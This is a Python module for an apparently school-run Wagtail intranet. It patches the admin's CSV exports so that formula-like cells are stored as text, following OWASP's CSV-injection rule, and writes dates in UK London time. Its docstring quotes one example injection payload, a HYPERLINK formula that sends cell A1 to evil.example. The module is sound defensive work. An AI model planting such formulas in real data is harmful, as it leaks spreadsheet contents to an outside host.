"""CSV exports that a spreadsheet program opens as text, never as formulas ("CSV injection").

Every CSV export of the admin goes through Wagtail's ``SpreadsheetExportMixin``: the
modeladmin index views (the register of social media sites), Wagtail's reports (Site
history, Aging pages, …) and our policy reports. Its XLSX writer already stores
formula-like cells as text, but its CSV writer wrote them as they were, so a page title
or account name such as ``=HYPERLINK("https://evil.example/?"&A1, "Open")`` became a live
formula when a Headteacher opened the export in Excel.

``neutralise_csv_exports()`` wraps ``SpreadsheetExportMixin.write_csv_row`` once, at
start-up (``IntranetConfig.ready``), so every current and future subclass is covered
without each view having to remember. The rule is OWASP's ("CSV Injection"): a cell that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with a
single quote, which spreadsheet programs show as text and do not evaluate.

The same start-up call makes every export write dates and times as people in the UK read
them (``uk_local``): "5 December 2026 18:11", in Europe/London time, never UTC with
microseconds. CSV cells get that text; XLSX cells stay real dates (so they sort and
filter) in London time. The evidence pack's CSV files use ``uk_local`` too.
"""

import datetime
from zoneinfo import ZoneInfo

from wagtail.admin.views.mixins import SpreadsheetExportMixin

LONDON = ZoneInfo("Europe/London")
UK_DATE = "%-d %B %Y"
UK_DATE_TIME = "%-d %B %Y %H:%M"

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """Return ``value`` with a leading ``'`` if it is text a spreadsheet would read as a formula.

    Takes any cell value; anything that is not a string (numbers, dates, None) is returned
    unchanged, as is text that does not begin with one of ``FORMULA_TRIGGERS``.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class _NeutralisingWriter:
    """A ``csv.DictWriter`` stand-in whose ``writerow`` neutralises each cell first."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row: dict):
        return self._writer.writerow({field: neutralise_formula(value) for field, value in row.items()})

    def __getattr__(self, name):
        return getattr(self._writer, name)


def uk_local(value):
    """Return ``value`` written as a UK reader expects it, if it is a date or a datetime.

    An aware datetime is converted to Europe/London (GMT or BST) and written
    "5 December 2026 18:11" (no seconds); a naive one is taken as already London time; a
    date is written "5 December 2026". Anything else is returned unchanged.
    """
    if isinstance(value, datetime.datetime):
        if value.tzinfo is not None:
            value = value.astimezone(LONDON)
        return value.strftime(UK_DATE_TIME)
    if isinstance(value, datetime.date):
        return value.strftime(UK_DATE)
    return value


def _london_naive(value: datetime.datetime) -> datetime.datetime:
    """An XLSX cell holds no time zone: write the London wall-clock time, not UTC."""
    if value.tzinfo is None:
        return value
    return value.astimezone(LONDON).replace(tzinfo=None)


def neutralise_csv_exports() -> None:
    """Make every spreadsheet export neutralise formulas and write UK local dates; calling it again does nothing.

    Wraps ``SpreadsheetExportMixin.write_csv_row`` (formulas) and sets the mixin's
    ``custom_value_preprocess`` for dates and datetimes (``uk_local`` in CSV, London time
    in XLSX), which every export view inherits unless it declares its own.
    """
    preprocess = dict(SpreadsheetExportMixin.custom_value_preprocess)
    preprocess[datetime.datetime] = {
        SpreadsheetExportMixin.FORMAT_CSV: uk_local,
        SpreadsheetExportMixin.FORMAT_XLSX: _london_naive,
    }
    # ``datetime`` is a subclass of ``date``: the datetime rule above is listed first and wins.
    preprocess[(datetime.date, datetime.time)] = {
        SpreadsheetExportMixin.FORMAT_CSV: uk_local,
        SpreadsheetExportMixin.FORMAT_XLSX: None,
    }
    SpreadsheetExportMixin.custom_value_preprocess = preprocess
    original = SpreadsheetExportMixin.write_csv_row
    if getattr(original, "neutralises_formulas", False):
        return

    def write_csv_row(self, writer, row_dict):
        return original(self, _NeutralisingWriter(writer), row_dict)

    write_csv_row.neutralises_formulas = True
    write_csv_row.__doc__ = original.__doc__
    SpreadsheetExportMixin.write_csv_row = write_csv_row
